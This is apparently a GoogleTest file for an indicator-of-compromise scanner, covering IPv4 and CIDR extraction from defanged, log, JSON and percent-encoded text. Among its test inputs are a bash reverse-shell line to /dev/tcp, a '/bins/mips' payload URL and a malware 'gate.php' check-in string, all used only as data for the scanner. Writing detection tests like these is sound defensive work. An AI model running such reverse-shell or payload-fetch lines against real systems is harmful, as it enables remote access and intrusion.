// IPv4 and CIDR edge cases beyond the contract's table.
#include "support/input_encodings.hpp"
#include "support/scan_helpers.hpp"

#include <gtest/gtest.h>

#include <string>

namespace iocscan::test {
namespace {

std::vector<std::string> ipv4s(const std::string& text, bool refang = true) {
    return values_of(scan_pieces(text, options_for({Type::ipv4, Type::cidr}, refang)), Type::ipv4);
}
std::vector<std::string> cidrs(const std::string& text) {
    return values_of(scan_pieces(text, options_for({Type::ipv4, Type::cidr}, true)), Type::cidr);
}
using V = std::vector<std::string>;

TEST(Ipv4, EveryDefangedDotStyle) {
    EXPECT_EQ(ipv4s("1[.]2[.]3[.]4"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("1(.)2(.)3(.)4"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("1\\.2\\.3\\.4"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("1[dot]2[DOT]3(dot)4"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("1[\\.]2.3.4"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("mixed 8.8[.]8(.)8 here"), V{"8.8.8.8"});
}

TEST(Ipv4, UnbalancedBrackets) {
    EXPECT_EQ(ipv4s("10.0.0]]1"), V{"10.0.0.1"});
    EXPECT_EQ(ipv4s("10[[.]]0.0.1"), V{"10.0.0.1"});
    EXPECT_EQ(ipv4s("10[.0.0.1"), V{"10.0.0.1"});
    EXPECT_EQ(ipv4s("10.]0.0.1"), V{"10.0.0.1"});
}

TEST(Ipv4, RawKeepsTheTextAsWritten) {
    EXPECT_EQ(ipv4s("at 1[.]2[.]3[.]4.", false), V{"1[.]2[.]3[.]4"});
}

TEST(Ipv4, OctetRange) {
    EXPECT_EQ(ipv4s("0.0.0.0 255.255.255.255"), (V{"0.0.0.0", "255.255.255.255"}));
    EXPECT_TRUE(ipv4s("256.1.1.1 1.256.1.1 1.1.1.256 300.300.300.300").empty());
    EXPECT_EQ(ipv4s("010.001.000.009"), V{"010.001.000.009"});
}

TEST(Ipv4, NotPartOfLongerRuns) {
    EXPECT_TRUE(ipv4s("1.2.3").empty());
    EXPECT_TRUE(ipv4s("1.2.3.4.5").empty());
    EXPECT_TRUE(ipv4s("version 10.0.0.1.2 and 1.2.3.4.5.6.7.8").empty());
    EXPECT_TRUE(ipv4s("01234.1.1.1 1.1.1.1234 11111.2.3.4").empty());
    EXPECT_TRUE(ipv4s("1[.]2[.]3[.]4[.]5").empty());
}

TEST(Ipv4, SentenceAndFieldBoundaries) {
    EXPECT_EQ(ipv4s("Blocked 1.2.3.4."), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("(1.2.3.4)"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("ip=1.2.3.4;"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("1.2.3.4:8080"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("a,1.2.3.4,b"), V{"1.2.3.4"});
    EXPECT_EQ(ipv4s("1.2.3.4\n5.6.7.8"), (V{"1.2.3.4", "5.6.7.8"}));
    EXPECT_EQ(ipv4s("1.2.3.4"), V{"1.2.3.4"});   // at the very end of input
}

TEST(Ipv4, Cidr) {
    EXPECT_EQ(cidrs("10.0.0.0/8 192.168[.]0.0/24 0.0.0.0/0 1.2.3.4/32"),
              (V{"10.0.0.0/8", "192.168.0.0/24", "0.0.0.0/0", "1.2.3.4/32"}));
    EXPECT_TRUE(ipv4s("10.0.0.0/8").empty());
    // Not a prefix length: the address stands alone.
    EXPECT_EQ(ipv4s("1.2.3.4/33 5.6.7.8/index.html 9.9.9.9/123"),
              (V{"1.2.3.4", "5.6.7.8", "9.9.9.9"}));
    EXPECT_TRUE(cidrs("1.2.3.4/33 1.2.3.4/").empty());
    // A number glued to a letter is a path segment: the address alone.
    EXPECT_TRUE(cidrs("10.1.2.0/2a 10.1.2.0/24abc 10.1.2.0/8_x").empty());
    EXPECT_EQ(ipv4s("10.1.2.0/2a 10.1.2.0/24abc 10.1.2.0/8_x"), (V{"10.1.2.0", "10.1.2.0", "10.1.2.0"}));
    EXPECT_EQ(cidrs("10.1.2.0/24. 10.1.2.0/24, 10.1.2.0/24)"), (V{"10.1.2.0/24", "10.1.2.0/24", "10.1.2.0/24"}));
}

// Squid's access.log writes the peer a request went to as
// HIERARCHY_CODE/ADDRESS. A code is no product name, so the address after it
// is reported, where "Chrome/120.0.0.0" stays a version.

/// Values of the ipv4 and cidr matches, which must be the same fed whole
/// and in pieces of every size up to 12 bytes: the verdict reads up to
/// eight bytes before the run, which a piece edge may fall among.
V squid_found(const std::string& text, Type type) {
    const Options options = options_for({Type::ipv4, Type::cidr}, true);
    const V whole = values_of(scan_pieces(text, options), type);
    for (std::size_t piece = 1; piece <= 12; ++piece) {
        EXPECT_EQ(values_of(scan_pieces(text, options, piece), type), whole) << "pieces of " << piece << ": " << text;
    }
    return whole;
}

// Every code of Squid 3 to 7 (hier_code.h) and of Squid 2 (hier_strings),
// with Squid 2's TIMEOUT_ prefix, as a plain and as a defanged address.
const char* const kSquidCodes[] = {
    "HIER_NONE",      "HIER_DIRECT",       "SIBLING_HIT",         "PARENT_HIT",        "DEFAULT_PARENT",
    "SINGLE_PARENT",  "FIRSTUP_PARENT",    "FIRST_PARENT_MISS",   "CLOSEST_PARENT_MISS", "CLOSEST_PARENT",
    "CLOSEST_DIRECT", "NO_DIRECT_FAIL",    "SOURCE_FASTEST",      "ROUNDROBIN_PARENT", "CD_PARENT_HIT",
    "CD_SIBLING_HIT", "CARP",              "ANY_OLD_PARENT",      "USERHASH_PARENT",   "SOURCEHASH_PARENT",
    "PINNED",         "ORIGINAL_DST",      "STANDBY_POOL",        "NONE",              "DIRECT",
    "FIRST_UP_PARENT", "NO_PARENT_DIRECT", "SIBLING_UDP_HIT_OBJ", "PARENT_UDP_HIT_OBJ", "PASSTHROUGH_PARENT",
    "SSL_PARENT_MISS", "ANY_PARENT",       "USERHASH",            "SOURCEHASH",        "CACHE_DIGEST_HIT",
    "NO_CACHE_DIGEST_DIRECT", "TIMEOUT_DIRECT", "TIMEOUT_FIRSTUP_PARENT", "TIMEOUT_HIER_DIRECT",
};

TEST(Ipv4, AddressAfterEverySquidHierarchyCode) {
    for (const std::string code : kSquidCodes) {
        EXPECT_EQ(squid_found("- " + code + "/45.33.2.1 text/html", Type::ipv4), V{"45.33.2.1"}) << code;
        EXPECT_EQ(squid_found(code + "/45[.]33[.]2[.]1", Type::ipv4), V{"45.33.2.1"}) << code;
        EXPECT_EQ(squid_found(code + "/10.0.0.0/8", Type::cidr), V{"10.0.0.0/8"}) << code;
    }
}

TEST(Ipv4, SquidAccessLogLines) {
    EXPECT_EQ(squid_found("1700000000.123    245 10.1.2.3 TCP_MISS/200 5120 GET http://x.example/ - "
                          "HIER_DIRECT/45.33.2.1 text/html\n"
                          "1700000001.456     12 10.1.2.4 TCP_MISS/200 301 GET http://y.example/ - "
                          "FIRSTUP_PARENT/10.9.8.7 text/plain\n"
                          "1091234567.890    100 10.1.2.5 TCP_MISS/200 99 GET http://z.example/ - DIRECT/8.8.8.8 -\n",
                          Type::ipv4),
              (V{"10.1.2.3", "45.33.2.1", "10.1.2.4", "10.9.8.7", "10.1.2.5", "8.8.8.8"}));
}

TEST(Ipv4, ProductVersionsStayVersions) {
    // Product names, and words a hierarchy code is not: lower-case letters
    // or digits among the last seven bytes, a "_" or a one-letter part at
    // the end, a name without "_" that is no bare code.
    EXPECT_EQ(squid_found("Chrome/120.0.0.0 OPR/106.0.0.0 Version/1.2.3.4 abc_1.2.3.4 YaBrowser/23.11.0.0 "
                          "Foo_bar/1.2.3.4 Foo_X/1.2.3.4 X_1/1.2.3.4 A1_B/1.2.3.4 HIER_/1.2.3.4 _/1.2.3.4 "
                          "DIRECTX/1.2.3.4 xDIRECT/1.2.3.4 Direct/1.2.3.4 hier_direct/1.2.3.4 GSA/1.2.3.4 "
                          "HIER_DIRECTx/1.2.3.4 NONE_/1.2.3.4 9NONE/1.2.3.4 Chrome/1.2.3.4/24 B_C/1.2.3.4 X/1.2.3.4",
                          Type::ipv4),
              V{});
    // The window is seven bytes of the word: what lies before it is not read.
    EXPECT_EQ(squid_found("x9_DIRECT/1.2.3.4 lower_HIT/5.6.7.8 a=B_CD/9.9.9.9", Type::ipv4),
              (V{"1.2.3.4", "9.9.9.9"}));
}

// JSON writes "/" as "\/": "SlateClient\/2.4.1.9" is the same version as
// "SlateClient/2.4.1.9", and a Squid code keeps its address (read on one
// byte less of the word: "xDIRECT\/" reads as "DIRECT", "xNONE\/" does not).
TEST(Ipv4, VersionAfterAJsonEscapedSlash) {
    EXPECT_EQ(squid_found(R"({"ua":"SlateClient\/2.4.1.9","b":"Chrome\/120.0.0.0 OPR\/106.0.0.0"})", Type::ipv4), V{});
    EXPECT_EQ(squid_found(R"("HIER_DIRECT\/45.33.2.1" "DIRECT\/8.8.8.8" "SOURCEHASH\/6.6.6.6" "xNONE\/1.2.3.4")",
                          Type::ipv4),
              (V{"45.33.2.1", "8.8.8.8", "6.6.6.6"}));
    EXPECT_EQ(squid_found(R"(url "http:\/\/203.0.113.7\/a" \/1.2.3.4)", Type::ipv4), (V{"203.0.113.7", "1.2.3.4"}));
}

// A word with a "/" or "." before it is a path segment or a host, not a
// product name: a bash reverse shell's "/dev/tcp/IP/port", IP lookup links.
// Beyond the eight bytes the prefix keeps, the word stays a product's,
// but when it ends in "address" or "addresses" (VirusTotal's links).
TEST(Ipv4, AddressAfterAPathSegmentOrHost) {
    EXPECT_EQ(squid_found("bash -i >& /dev/tcp/203.0.113.89/4444 0>&1; cat </dev/udp/198.51.100.7/53 "
                          "https://www.shodan.io/host/192.0.2.15 /api/v1-x/192.0.2.16 \\/dev\\/tcp\\/192.0.2.17 "
                          "ipinfo.io/192.0.2.18 https://www.virustotal.com/gui/ip-address/192.0.2.19 "
                          "/api/v3/ip_addresses/192.0.2.20 \\/gui\\/IP-Address\\/192.0.2.21 an address/192.0.2.22",
                          Type::ipv4),
              (V{"203.0.113.89", "198.51.100.7", "192.0.2.15", "192.0.2.16", "192.0.2.17", "192.0.2.18", "192.0.2.19",
                 "192.0.2.20", "192.0.2.21", "192.0.2.22"}));
    EXPECT_EQ(squid_found("/dev/tcp/10.0.0.0/8", Type::cidr), V{"10.0.0.0/8"});
    EXPECT_EQ(squid_found("Mozilla/5.0 Chrome/1.2.3.4 /releases/2.4.1.9 (x)Foo/1.2.3.4 \"ua\":\"YaBrowser\\/23.11.0.0\" "
                          "xaddressx/1.2.3.4 addresses_/1.2.3.4",
                          Type::ipv4),
              V{});
}

// A percent escape before the run ("http%3A%2F%2F193.233.20.14%2Fx", as
// web logs write a URL in a query string) ends in a hex letter, but is a
// separator, not a version's word: "%2F", "%3A", "%3D" and "%40" (any
// case). A letter that only looks like the escape's tail stays a version.
TEST(Ipv4, AfterAPercentEscape) {
    EXPECT_EQ(ipv4s("u=http%3A%2F%2F193.233.20.14%2Fbins%2Fmips ip%3D10.1.2.3&x %40%3a8.8.8.8 a%2f9.9.9.9"),
              (V{"193.233.20.14", "10.1.2.3", "8.8.8.8", "9.9.9.9"}));
    EXPECT_TRUE(ipv4s("%2Fv1.2.3.4 %3Ab1.2.3.4 2F1.2.3.4 %%F1.2.3.4 %GF1.2.3.4").empty());
    // An escape that ends in digits ends in the run's first two: "%20" is a
    // space, and the address is what follows it.
    EXPECT_EQ(ipv4s("q=%201.2.3.4&a=%2010.0.0.1 ping%20192.168.1.1%20-c"), (V{"1.2.3.4", "10.0.0.1", "192.168.1.1"}));
    EXPECT_EQ(values_of(scan_pieces("r=%2010.20.0.0/16", options_for({Type::cidr})), Type::cidr), V{"10.20.0.0/16"});
    EXPECT_TRUE(ipv4s("%20.1.2.3 %201.2.3").empty());
    // An escape that is the whole first group leaves a run that starts at
    // a separator: no address (before: the DFA gave ".192.0.2.1" and
    // "[.]10.0.0.1", where the skip passes the five-group run).
    EXPECT_TRUE(ipv4s("%12.192.0.2.1 %20[.]10.0.0.1").empty());
    EXPECT_EQ(ipv4s("%1.2.3.4"), V{"1.2.3.4"});   // one digit: no escape
    for (std::size_t piece = 1; piece <= 9; ++piece) {
        EXPECT_EQ(values_of(scan_pieces("ping%20192.168.1.1%20", options_for({Type::ipv4}, true), piece), Type::ipv4),
                  V{"192.168.1.1"})
            << piece;
    }
    for (std::size_t piece = 1; piece <= 9; ++piece) {
        EXPECT_EQ(values_of(scan_pieces("x%2F%2F45.33.2.1%2F", options_for({Type::ipv4}, true), piece), Type::ipv4),
                  V{"45.33.2.1"})
            << piece;
    }
}

// A reverse-DNS name ("17.85.215.91.in-addr.arpa", as a Zeek dns.log or a
// PTR query writes it) holds the address backwards: reporting its four
// groups would name another host, so it reports nothing.
TEST(Ipv4, ReverseDnsNameIsNoAddress) {
    EXPECT_TRUE(ipv4s("17.85.215.91.in-addr.arpa 4.3.2.1.IN-ADDR.ARPA. 1[.]2[.]3[.]4.in-addr.arpa").empty());
    // Only that name: other words after the run leave the address alone.
    EXPECT_EQ(ipv4s("1.2.3.4.in-addr 5.6.7.8.in 9.9.9.9.arpa 1.1.1.1 in-addr.arpa"),
              (V{"1.2.3.4", "5.6.7.8", "9.9.9.9", "1.1.1.1"}));
    const std::string text = "ptr 17.85.215.91.in-addr.arpa then 91.215.85.17 and 8.8.4.4.in-addr.arpa";
    for (std::size_t piece = 1; piece <= 17; ++piece) {
        EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::ipv4}, true), piece), Type::ipv4),
                  V{"91.215.85.17"})
            << piece;
    }
}

// A malware check-in or an asset link writes its version as a query key's
// value ("gate.php?bot=ws114&v=2.3.0.1", "app.js?ver=1.2.0.4"): "v", "ver"
// and "version" (any case) before "=" make a version, as a glued "v" does.
// Other keys name addresses ("ip=", "server=", "dev="), and so do keys that
// only end in "v" or "ver".
TEST(Ipv4, VersionQueryKeyMakesAVersion) {
    const std::string text =
        "GET /gate.php?bot=ws114&v=2.3.0.1&os=10.0.19041 ?ver=1.2.0.4 Version=10.0.0.1 &VER=4.4.4.4 "
        "_v=1.1.1.1 ip=10.9.8.7 server=10.1.2.4 dev=10.1.2.3 rev=5.6.7.8 v =9.9.9.9 v=10.0.0]]1 "
        "host=198.51.100.61 c2_server_v=10.7.7.7 x-ver=10.6.6.6 fw_version=1.0.0.3";
    // "_v=", "c2_server_v=", "x-ver=": no whole key, an identifier's tail.
    const V expected{"1.1.1.1", "10.9.8.7", "10.1.2.4", "10.1.2.3", "5.6.7.8", "9.9.9.9", "198.51.100.61", "10.7.7.7",
                     "10.6.6.6"};
    const Options options = options_for({Type::ipv4, Type::cidr}, true);
    for (std::size_t piece : {0u, 1u, 2u, 3u, 5u, 8u, 9u, 16u}) {
        EXPECT_EQ(values_of(scan_pieces(text, options, piece), Type::ipv4), expected) << piece;
    }
}

TEST(Ipv4, SquidCodeAtEveryPieceEdge) {
    // The code and the run at every offset from a piece edge, after text
    // that ends a token and after a product version.
    const Options options = options_for({Type::ipv4, Type::cidr}, true);
    for (std::size_t lead = 0; lead < 24; ++lead) {
        const std::string text = std::string(lead, ' ') + "Chrome/1.2.3.4 CD_SIBLING_HIT/45.33.2.1 SOURCEHASH/6.6.6.6 "
                                 "OPR/7.7.7.7 DIRECT/8.8.8.8";
        for (std::size_t piece : {1, 2, 3, 5, 8, 9, 16}) {
            EXPECT_EQ(values_of(scan_pieces(text, options, piece), Type::ipv4), (V{"45.33.2.1", "6.6.6.6", "8.8.8.8"}))
                << "lead " << lead << ", pieces of " << piece;
        }
    }
}

TEST(Ipv4, TcpdumpEndpointsReportTheirAddresses) {
    // tcpdump writes address.port: after "IP " the source, after "> " the
    // destination (before: a five-part number, nothing).
    const std::string line = "12:34:56.789012 IP 10.20.4.37.60211 > 93.184.216.34.443: Flags [S], seq 1\n"
                             "    10.0.0.1.51234 > 10.0.0.2.80: Flags [P.]\n";
    const Options options = options_for({Type::ipv4, Type::cidr}, true);
    for (std::size_t piece : {0u, 1u, 2u, 3u, 7u, 16u}) {
        EXPECT_EQ(values_of(scan_pieces(line, options, piece), Type::ipv4), (V{"10.20.4.37", "93.184.216.34", "10.0.0.2"}))
            << "pieces of " << piece;
    }
    // Elsewhere five parts stay nothing: no "IP " or "> " before, a glued
    // "IP", a port over 65535, six parts, defanged dots, a prefix length.
    EXPECT_EQ(ipv4s("version 1.2.3.4.5 SKIP 1.2.3.4.5 > 1.2.3.4.70000 IP 1.2.3.4.5.6 IP 1[.]2.3.4.5 IP 1.2.3.4.5/24"),
              V{});
}

TEST(Ipv4, SquidCodeInWideText) {
    // --wide drops the NUL high bytes before the scanners see the text.
    const std::string text = "- HIER_DIRECT/45.33.2.1 Chrome/120.0.0.0 DIRECT/8.8.8.8 ";
    SourceOptions source;
    source.wide = true;
    for (std::size_t chunk : {1, 7, 33, 4096}) {
        source.chunk_size = chunk;
        EXPECT_EQ(values_of(scan_through_fd(utf16le(text), options_for({Type::ipv4}, true), source), Type::ipv4),
                  (V{"45.33.2.1", "8.8.8.8"}))
            << "chunk " << chunk;
    }
}

TEST(Ipv4, OffsetsAreAbsolute) {
    const auto found = scan_pieces("xx 1.2.3.4 yy 5.6.7.8", options_for({Type::ipv4}), 3);
    ASSERT_EQ(found.size(), 2u);
    EXPECT_EQ(found[0].offset, 3u);
    EXPECT_EQ(found[1].offset, 14u);
    EXPECT_FALSE(found[0].defanged);
}

TEST(Ipv4, DefangedFlag) {
    const auto found = scan_pieces("1.2.3[.]4", options_for({Type::ipv4}));
    ASSERT_EQ(found.size(), 1u);
    EXPECT_TRUE(found[0].defanged);
    EXPECT_EQ(found[0].rules, std::vector<std::string>{"ipv4"});
}

TEST(Ipv4, LongDottedRunIsLinearAndReportsNothingFromItsTail) {
    std::string run;
    for (int i = 0; i < 200000; ++i) run += "1[.]";
    run += "1 then 9.9.9.9";
    EXPECT_EQ(ipv4s(run), V{"9.9.9.9"});
}

}  // namespace
}  // namespace iocscan::test
